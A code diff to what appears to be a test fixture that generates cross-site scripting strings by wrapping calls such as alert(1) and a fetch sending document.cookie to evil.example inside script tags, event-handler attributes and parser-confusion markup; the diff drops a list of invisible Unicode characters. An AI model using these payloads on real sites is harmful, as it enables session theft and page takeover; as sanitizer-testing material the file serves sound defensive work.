@@ -1,4 +1,4 @@
-// Texts that would do something if a page took them for markup, and characters that nobody sees.
+// Texts that would do something if a page took them for markup.
 const CALLS = ["alert(1)", "confirm`1`", "top['al'+'ert'](1)", "fetch('https://evil.example/'+document.cookie)"];
 const BODIES = [
   (call) => `<script>${call}</script>`,
@@ -48,8 +48,4 @@ const BODIES = [
   (call) => `<x contenteditable onblur=${call}>lose focus!</x>`,
   (call) => `<style><img src="</style><img src=x onerror=${call}//">`,
 ];
-export const HIDDEN = [
-  "left\u202eright", "zero\u200bwidth", "join\u200dner", "mark\u200fhere", "tag\u{e0041}\u{e0042}", "bom\ufeffhere", "iso\u2066late\u2069", "soft\u00adhyphen",
-];
-
-export const OURS = BODIES.flatMap((body) => CALLS.map(body)).concat(HIDDEN);
+export const OURS = BODIES.flatMap((body) => CALLS.map(body));
